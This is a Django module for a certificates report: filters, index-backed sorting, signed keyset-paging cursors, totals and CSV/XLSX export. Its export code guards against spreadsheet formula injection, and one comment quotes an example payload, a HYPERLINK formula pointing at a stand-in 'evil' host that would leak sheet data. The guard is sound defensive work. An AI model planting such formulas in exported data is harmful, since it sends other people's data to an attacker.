"""The Certificates report: filters, sorting, keyset paging and totals.

A page continues from the previous page's last (sort key, id) instead of skipping rows with
OFFSET, so page 1000 costs what page 1 costs; every filter and sort is backed by an index
(Certificate.Meta.indexes, contacts' (project, name), the unique (project, number)).
"""

import datetime
import re
from dataclasses import dataclass

from django import forms
from django.core import signing
from django.core.validators import MaxValueValidator, MinValueValidator
from django.db.models import Count, F, Q, QuerySet
from django.utils import timezone
from django.utils.translation import gettext
from django.utils.translation import gettext_lazy as _

from contacts.models import Contact

from .models import Certificate, CourseCertificate
from .services import verification_url

PAGE_SIZE = 50
# Columns staff may hide (the number, participant and row actions always show), in table order.
OPTIONAL_COLUMNS = {
    "email": _("Email"),
    "course": _("Course"),
    "certificate": _("Certificate"),
    "issued": _("Issue date"),
    "method": _("Method"),
    "issued_by": _("Issued by"),
    "forced": _("Forced"),
    "template": _("Template"),
    "expires": _("Expires"),
}


def visible_columns(chosen: list) -> list[str]:
    """The optional columns to show: the chosen ones that exist, or all when none are chosen."""
    known = [name for name in OPTIONAL_COLUMNS if name in set(chosen or [])]
    return known or list(OPTIONAL_COLUMNS)


DEFAULT_SORT = "-issued"
ASC, DESC = False, True
# Each sort is the full ordering (field, descending), ending in `id` so that rows with equal
# values still have one exact order to page through. The middle keys follow the indexes:
# certificates of one contact in id order (contact FK index), of one course newest first
# (cert_report_cc).
SORTS = {
    "-issued": (("issued_at", DESC), ("id", DESC)),
    "issued": (("issued_at", ASC), ("id", ASC)),
    "-number": (("number", DESC), ("id", DESC)),
    "number": (("number", ASC), ("id", ASC)),
    "name": (("contact__name", ASC), ("contact_id", ASC), ("id", ASC)),
    "-name": (("contact__name", DESC), ("contact_id", DESC), ("id", DESC)),
    "course": (
        ("course_certificate__course__title", ASC),
        ("course_certificate__course_id", ASC),
        ("issued_at", DESC),
        ("id", DESC),
    ),
    "-course": (
        ("course_certificate__course__title", DESC),
        ("course_certificate__course_id", DESC),
        ("issued_at", DESC),
        ("id", DESC),
    ),
}
# The project said again on the joined table lets the database walk contacts' (project, name)
# index, or courses' (project, title) index, in order and fetch each one's certificates,
# instead of sorting every certificate.
SORT_HINTS = {"name": "contact__project", "course": "course_certificate__course__project"}
DATETIME_KEYS = {"issued_at"}
SORT_CHOICES = [(name, name) for name in SORTS]
_CURSOR_SALT = "certificates.report.cursor"


@dataclass(frozen=True)
class Filters:
    search: str = ""
    course_certificate_ids: frozenset[int] | None = None  # None: every course certificate
    issued_from: datetime.date | None = None
    issued_to: datetime.date | None = None
    method: str = ""
    forced: bool | None = None
    outdated: bool = False
    name_changed: bool = False
    include_deleted: bool = False
    expired: bool = False
    expires_within: int | None = None  # days from the school's today
    sort: str = DEFAULT_SORT


# The dates a filter may ask for. Outside them the day's local midnight (and the next day's)
# does not exist as a datetime: 9999-12-31 + 1 day overflows, and 0001-01-01 in Kyiv is
# before year 1 in UTC.
EARLIEST_DATE = datetime.date(1900, 1, 1)
LATEST_DATE = datetime.date(2999, 12, 31)


def _date_field(label):
    return forms.DateField(
        label=label,
        required=False,
        validators=[MinValueValidator(EARLIEST_DATE), MaxValueValidator(LATEST_DATE)],
        widget=forms.DateInput(
            attrs={
                "type": "date",
                "min": EARLIEST_DATE.isoformat(),
                "max": LATEST_DATE.isoformat(),
            }
        ),
    )


class ReportForm(forms.Form):
    """The filter bar. Invalid fields are reported and ignored; the valid ones still apply."""

    q = forms.CharField(label=_("Search"), required=False, max_length=200)
    course = forms.ChoiceField(label=_("Course"), required=False)
    certificate = forms.ChoiceField(label=_("Certificate"), required=False)
    issued_from = _date_field(_("Issued from"))
    issued_to = _date_field(_("Issued to"))
    method = forms.ChoiceField(
        label=_("Method"),
        required=False,
        choices=[("", _("Any method")), *Certificate.Method.choices],
    )
    forced = forms.ChoiceField(
        label=_("Issued before completion"),
        required=False,
        choices=[("", _("Forced or not")), ("yes", _("Forced only")), ("no", _("Not forced"))],
    )
    outdated = forms.BooleanField(label=_("Outdated template only"), required=False)
    name_changed = forms.BooleanField(label=_("Name changed since issue"), required=False)
    deleted = forms.BooleanField(label=_("Include deleted"), required=False)
    expired = forms.BooleanField(label=_("Expired"), required=False)
    expires_within = forms.IntegerField(
        label=_("Expires within, days"), required=False, min_value=1, max_value=3650
    )
    sort = forms.ChoiceField(required=False, choices=SORT_CHOICES, widget=forms.HiddenInput)

    def __init__(self, data, *, project):
        super().__init__(data)
        self.course_certificates = list(
            CourseCertificate.objects.filter(project=project)
            .select_related("course")
            .only("id", "public_id", "title", "course__public_id", "course__title")
            .order_by("course__title", "id")
        )
        self.fields["course"].choices = [("", _("All courses"))] + [
            (str(cc.course.public_id), cc.course.title) for cc in self.course_certificates
        ]
        # With a course chosen, the certificate list offers only that course's certificates.
        chosen_course = str(data.get("course", "")) if data else ""
        offered = [
            cc
            for cc in self.course_certificates
            if not chosen_course or str(cc.course.public_id) == chosen_course
        ] or self.course_certificates
        self.fields["certificate"].choices = [("", _("All certificates"))] + [
            (str(cc.public_id), f"{cc.title} — {cc.course.title}") for cc in offered
        ]
        for field in self.fields.values():
            widget = field.widget
            if isinstance(widget, forms.Select):
                widget.attrs["class"] = "form-select form-select-sm"
            elif isinstance(widget, forms.CheckboxInput):
                widget.attrs["class"] = "form-check-input"
            elif not widget.is_hidden:
                widget.attrs["class"] = "form-control form-control-sm"

    def clean(self):
        data = super().clean()
        start, end = data.get("issued_from"), data.get("issued_to")
        if start and end and start > end:
            self.add_error("issued_to", _("The end date is before the start date."))
        return data

    def filters(self) -> Filters:
        self.is_valid()  # fills cleaned_data with the fields that are valid
        data = self.cleaned_data
        ids = None
        if data.get("course"):
            ids = {
                cc.id
                for cc in self.course_certificates
                if str(cc.course.public_id) == data["course"]
            }
        if data.get("certificate"):
            chosen = {
                cc.id for cc in self.course_certificates if str(cc.public_id) == data["certificate"]
            }
            ids = chosen if ids is None else ids & chosen
        return Filters(
            search=(data.get("q") or "").strip(),
            course_certificate_ids=None if ids is None else frozenset(ids),
            issued_from=data.get("issued_from"),
            issued_to=data.get("issued_to"),
            method=data.get("method") or "",
            forced={"yes": True, "no": False}.get(data.get("forced") or ""),
            outdated=bool(data.get("outdated")),
            name_changed=bool(data.get("name_changed")),
            include_deleted=bool(data.get("deleted")),
            expired=bool(data.get("expired")),
            expires_within=data.get("expires_within"),
            sort=data.get("sort") or DEFAULT_SORT,
        )


def _local_midnight(day: datetime.date) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time.min))


def filtered(*, project, filters: Filters) -> QuerySet:
    """The project's certificates matching the filters; unordered, nothing joined yet."""
    qs = Certificate.objects.filter(project=project)
    if not filters.include_deleted:
        qs = qs.filter(deleted_at__isnull=True)
    if filters.course_certificate_ids is not None:
        qs = qs.filter(course_certificate_id__in=filters.course_certificate_ids)
    if filters.issued_from:
        qs = qs.filter(issued_at__gte=_local_midnight(filters.issued_from))
    if filters.issued_to:
        end = filters.issued_to + datetime.timedelta(days=1)
        qs = qs.filter(issued_at__lt=_local_midnight(end))
    if filters.method:
        qs = qs.filter(method=filters.method)
    if filters.forced is not None:
        qs = qs.filter(forced=filters.forced)
    if filters.outdated:
        qs = qs.outdated()
    if filters.name_changed:
        qs = qs.name_changed()
    if filters.expired or filters.expires_within:
        today = timezone.localdate(timezone=project.tzinfo)
        if filters.expired:
            qs = qs.expired(today)
        if filters.expires_within:
            qs = qs.expiring(today, filters.expires_within)
    if filters.search:
        term = filters.search
        # Substring search reads every row whatever the index; matching the (fewer) contacts
        # first and then their certificates by id is about twice as fast as joining each row.
        contacts = Contact.objects.filter(project=project).filter(
            Q(name__icontains=term) | Q(email__icontains=term)
        )
        qs = qs.filter(
            Q(number__icontains=term)
            | Q(printed_name__icontains=term)
            | Q(contact__in=contacts.values("id"))
        )
    return qs


def totals(qs: QuerySet, *, count_deleted: bool = True) -> dict:
    """Counts for the current filter, in one query.

    Only columns of the totals index (project, method, forced, deleted_at) are read (`method`
    is never null, `deleted_at` is null exactly on live rows), so PostgreSQL answers from the
    index alone; counting `id` made it read every row of the table.

    `count_deleted=False` when the filter already leaves deleted rows out (their count is 0):
    then one row per (method, forced) is counted with COUNT(*) and added up here, so the
    database walks the partial index in its order and only counts, where five conditional
    counts test each condition on every row (at 100,000 certificates 34 -> 21 ms on SQLite,
    28 -> 19 ms on PostgreSQL). With deleted rows the index (live rows only) does not help
    and the grouping costs more than the conditions: the conditional counts stay.
    """
    if count_deleted:
        return qs.aggregate(
            total=Count("method"),
            automatic=Count("method", filter=Q(method=Certificate.Method.AUTOMATIC)),
            manual=Count("method", filter=Q(method=Certificate.Method.MANUAL)),
            forced=Count("forced", filter=Q(forced=True)),
            deleted=Count("deleted_at"),
        )
    result = dict.fromkeys(("total", "automatic", "manual", "forced", "deleted"), 0)
    for group in qs.order_by().values("method", "forced").annotate(rows=Count("*")):
        result["total"] += group["rows"]
        if group["method"] == Certificate.Method.AUTOMATIC:
            result["automatic"] += group["rows"]
        elif group["method"] == Certificate.Method.MANUAL:
            result["manual"] += group["rows"]
        if group["forced"]:
            result["forced"] += group["rows"]
    return result


def with_columns(qs: QuerySet) -> QuerySet:
    """Join what a report row shows, and only that: snapshots and template HTML stay behind."""
    return (
        qs.select_related(
            "contact",
            "course_certificate__course",
            "course_certificate__template",
            "template_revision",
            "issued_by",
            "deleted_by",
            "project",
        )
        .only(
            "public_id",
            "number",
            "code",
            "printed_name",
            "issued_at",
            "method",
            "forced",
            "deleted_at",
            "expires_at",
            "project__time_zone",
            "contact__public_id",
            "contact__name",
            "contact__email",
            "course_certificate__title",
            "course_certificate__course__title",
            "template_revision__version",
            "course_certificate__template__name",
            "course_certificate__template__version",
            "issued_by__email",
            "issued_by__full_name",
            "deleted_by__email",
            "deleted_by__full_name",
        )
        .with_outdated()
    )


def ordered(qs: QuerySet, sort: str, *, project) -> QuerySet:
    """`qs` in `sort` order, each sort key also annotated as `_k0`, `_k1`, … for cursors."""
    keys = SORTS.get(sort, SORTS[DEFAULT_SORT])
    hint = SORT_HINTS.get(sort.removeprefix("-"))
    if hint and sort in SORTS:
        qs = qs.filter(**{hint: project})
    qs = qs.annotate(**{f"_k{i}": F(field) for i, (field, _desc) in enumerate(keys)})
    return qs.order_by(*(f"{'-' if desc else ''}{field}" for field, desc in keys))


# --- Keyset paging ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Cursor:
    sort: str
    values: tuple  # the sort keys of the row the page starts after (or before)
    backwards: bool  # True: the rows before it in the report's order
    page: int  # the number of the page this cursor leads to, for "Page 12" only

    @classmethod
    def of(cls, row, *, sort: str, backwards: bool, page: int) -> "Cursor":
        values = tuple(getattr(row, f"_k{i}") for i in range(len(SORTS[sort])))
        return cls(sort, values, backwards, page)

    def encode(self) -> str:
        values = [v.isoformat() if isinstance(v, datetime.datetime) else v for v in self.values]
        payload = [self.sort, values, int(self.backwards), self.page]
        return signing.dumps(payload, salt=_CURSOR_SALT, compress=True)

    @classmethod
    def decode(cls, token: str, *, sort: str) -> "Cursor | None":
        """The cursor, or None when it is damaged or was made for another sort order."""
        try:
            payload_sort, values, backwards, page = signing.loads(token, salt=_CURSOR_SALT)
            keys = SORTS[sort]
            if payload_sort != sort or len(values) != len(keys):
                return None
            values = tuple(
                datetime.datetime.fromisoformat(v) if field in DATETIME_KEYS else v
                for v, (field, _desc) in zip(values, keys, strict=True)
            )
            return cls(sort, values, bool(backwards), max(int(page), 1))
        except (signing.BadSignature, KeyError, ValueError, TypeError):
            return None


@dataclass
class Page:
    rows: list
    number: int
    next_cursor: str | None
    previous_cursor: str | None

    @property
    def has_other_pages(self) -> bool:
        return bool(self.next_cursor or self.previous_cursor)


def _seek(qs: QuerySet, cursor: Cursor) -> QuerySet:
    """Rows strictly beyond the cursor: (k0, k1, …) after (v0, v1, …) in the sort's order."""
    keys = SORTS[cursor.sort]
    beyond = Q()
    for i in reversed(range(len(keys))):
        field, descending = keys[i]
        op = "lt" if descending != cursor.backwards else "gt"
        step = Q(**{f"{field}__{op}": cursor.values[i]})
        beyond = step if i == len(keys) - 1 else step | (Q(**{field: cursor.values[i]}) & beyond)
    # The redundant bound on the first key lets the database start its index range at the
    # cursor instead of testing the OR row by row.
    field, descending = keys[0]
    bound = "lte" if descending != cursor.backwards else "gte"
    return qs.filter(Q(**{f"{field}__{bound}": cursor.values[0]}) & beyond)


def page(
    qs: QuerySet, *, project, sort: str, cursor: str | None = None, size: int = PAGE_SIZE
) -> Page:
    """One page of `qs` in `sort` order, starting at the (opaque) cursor."""
    sort = sort if sort in SORTS else DEFAULT_SORT
    position = Cursor.decode(cursor, sort=sort) if cursor else None
    qs = ordered(qs, sort, project=project)
    if position is None:
        rows = list(qs[: size + 1])
        more, has_previous, number = len(rows) > size, False, 1
        rows = rows[:size]
    else:
        qs = _seek(qs, position)
        if position.backwards:
            qs = qs.reverse()
        rows = list(qs[: size + 1])
        more, number = len(rows) > size, position.page
        rows = rows[:size]
        if position.backwards:
            rows.reverse()
            # Going back, what lies further back is `more`; the page we came from is ahead.
            more, has_previous = True, more
        else:
            has_previous = True
    next_cursor = previous_cursor = None
    if rows and more:
        next_cursor = Cursor.of(rows[-1], sort=sort, backwards=False, page=number + 1).encode()
    if rows and has_previous:
        previous_cursor = Cursor.of(
            rows[0], sort=sort, backwards=True, page=max(number - 1, 1)
        ).encode()
    return Page(rows, number, next_cursor, previous_cursor)


def report(*, project, filters: Filters, cursor: str | None = None) -> tuple[Page, dict]:
    """The report page: one page of rows and the totals of the whole filtered list."""
    qs = filtered(project=project, filters=filters)
    rows = page(with_columns(qs), project=project, sort=filters.sort, cursor=cursor)
    # Without "Include deleted" the filter has left every deleted row out.
    return rows, totals(qs, count_deleted=filters.include_deleted)


# --- Export ----------------------------------------------------------------------------------

EXPORT_FIELDS = (
    "number",
    "contact__name",
    "printed_name",
    "contact__email",
    "course_certificate__course__title",
    "course_certificate__title",
    "issued_at",
    "expires_at",
    "method",
    "issued_by__full_name",
    "issued_by__email",
    "forced",
    "template_revision__version",
    "outdated",
    "deleted_at",
    "deleted_by__full_name",
    "deleted_by__email",
    "delete_reason",
    # The reverse one-to-one is a LEFT JOIN in the same query: no query per replaced row.
    "replaced_by__number",
    "code",
)


def export_rows(*, project, filters: Filters, chunk_size: int = 2000):
    """Every filtered row as a plain tuple (EXPORT_FIELDS), streamed from the database."""
    qs = filtered(project=project, filters=filters)
    qs = ordered(qs, filters.sort, project=project).with_outdated()
    return qs.values_list(*EXPORT_FIELDS).iterator(chunk_size=chunk_size)


def export_headings() -> list[str]:
    return [
        gettext("Number"),
        gettext("Participant"),
        gettext("Printed name"),
        gettext("Email"),
        gettext("Course"),
        gettext("Certificate"),
        gettext("Issue date"),
        gettext("Expires"),
        gettext("Method"),
        gettext("Issued by"),
        gettext("Issued before completion"),
        gettext("Template version"),
        gettext("Outdated template"),
        gettext("Deleted"),
        gettext("Deleted by"),
        gettext("Deletion reason"),
        gettext("Replaced by"),
        gettext("Verification URL"),
    ]


# A spreadsheet runs a cell that starts with one of these as a formula (tab and CR too, once
# the CSV is pasted or re-imported): a participant named =HYPERLINK("http://evil/?"&A1) would
# send the sheet's data away when staff open the export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Control characters XML 1.0 cannot hold: openpyxl refuses the whole file over one of them.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def spreadsheet_text(value):
    """`value` safe for a CSV or XLSX cell: text that a spreadsheet would read as a formula
    gets a leading apostrophe (OWASP's rule, what Excel shows for typed text), and characters
    no XLSX file can hold are dropped. Numbers, dates and None pass unchanged."""
    if not isinstance(value, str):
        return value
    value = _XML_ILLEGAL.sub("", value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _local(moment):
    # Spreadsheets have no time zones: write the school's local wall-clock time.
    return timezone.localtime(moment).replace(tzinfo=None, microsecond=0) if moment else None


def export_cells(row, *, verify_url=verification_url) -> list:
    """One EXPORT_FIELDS tuple as the cells of an export line, in export_headings() order."""
    (number, name, printed_name, email, course, title, issued_at, expires_at, method, by_name,
     by_email, forced, version, outdated, deleted_at, del_name, del_email, del_reason,
     replaced_by, code) = row  # fmt: skip
    cells = [
        number,
        name,
        printed_name,
        email,
        course,
        title,
        _local(issued_at),
        expires_at,  # a date cell; empty for a certificate that never expires
        str(Certificate.Method(method).label),
        by_name or by_email or "",
        gettext("yes") if forced else "",
        version,
        gettext("yes") if outdated else "",
        _local(deleted_at),
        del_name or del_email or "",
        del_reason,
        replaced_by or "",
        verify_url(code),
    ]
    # Names, emails, titles, reasons and numbers are typed by people the school does not control.
    return [spreadsheet_text(cell) for cell in cells]


def export_table(*, project, filters: Filters):
    """The export's lines (cells, without the headings): what CSV and XLSX both write."""
    # One reverse() for the whole file: codes are base32, so nothing in them needs quoting.
    prefix, suffix = verification_url(_CODE_SLOT).split(_CODE_SLOT)

    def verify_url(code):
        return f"{prefix}{code}{suffix}"

    return (
        export_cells(row, verify_url=verify_url)
        for row in export_rows(project=project, filters=filters)
    )


_CODE_SLOT = "CODESLOT"
